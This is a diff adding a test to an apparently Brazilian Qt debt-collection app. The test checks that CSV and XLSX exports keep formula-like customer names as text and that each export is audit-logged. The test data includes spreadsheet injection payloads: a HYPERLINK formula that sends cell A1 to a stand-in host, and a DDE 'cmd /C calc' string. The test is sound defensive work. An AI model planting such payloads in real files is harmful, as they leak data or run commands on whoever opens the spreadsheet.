@@ -133,3 +133,44 @@ def test_grid_filters_sorts_formats_and_exports(qtbot, qtmodeltester, sqlite_db,
     assert len(rows) == filtered + 1 and rows[1][1] == document and "," in rows[1][5]
     sheet = openpyxl.load_workbook(tmp_path / "lista.xlsx").active
     assert sheet.max_row == filtered + 1 and isinstance(sheet.cell(2, 6).value, float | int)
+
+
+def test_exports_keep_formulas_as_text_and_are_audited(qtbot, sqlite_db, tmp_path):
+    """OWASP CSV injection: names from the ERP that a spreadsheet would run stay text, in
+    CSV (leading apostrophe) and XLSX (a text cell with the quote prefix); every export is
+    in the audit log with the screen, the filter and how many rows."""
+    from sqlalchemy import select, update
+
+    from gestao_negativacao.db.models import AuditEntry, Customer
+    from gestao_negativacao.gui.context import Context
+    from gestao_negativacao.gui.qt import QWidget
+    from tests.sending_helpers import admin_actor, portfolio
+
+    admin = admin_actor(sqlite_db)
+    portfolio(sqlite_db, 4)
+    names = ['=HYPERLINK("http://x?"&A1,"ver")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]
+    with sqlite_db.session_factory.begin() as s:
+        for n, name in enumerate(names):
+            s.execute(update(Customer).where(Customer.name == f"cli{n}").values(name=name))
+    page = QWidget()
+    page.context = Context(sqlite_db, admin)  # as every screen keeps it
+    grid = Grid(installments_query(sqlite_db), "parcelas_teste", page)
+    qtbot.addWidget(page)
+    grid.reload()
+    loaded(qtbot, grid.model)
+    for suffix in ("csv", "xlsx"):
+        target = tmp_path / f"nomes.{suffix}"
+        grid.ask_export_path = lambda target=target: target
+        grid.export()
+        qtbot.waitUntil(lambda target=target: getattr(grid, "last_export", (None,))[0] == target)
+    text = (tmp_path / "nomes.csv").read_text(encoding="utf-8-sig")
+    cells = {row[2] for row in csv.reader(text.splitlines()[1:], delimiter=";")}
+    assert cells == {"'" + n for n in names}
+    sheet = openpyxl.load_workbook(tmp_path / "nomes.xlsx").active
+    written = [sheet.cell(r, 3) for r in range(2, sheet.max_row + 1)]
+    assert {c.value for c in written} == set(names)
+    assert all(c.data_type == "s" and c.quotePrefix for c in written)
+    with sqlite_db.session_factory() as s:
+        entries = s.scalars(select(AuditEntry).where(AuditEntry.action == "exportar")).all()
+    assert [e.login for e in entries] == ["admin", "admin"]
+    assert '"linhas": 4' in entries[0].details and '"tela": "parcelas_teste"' in entries[0].details
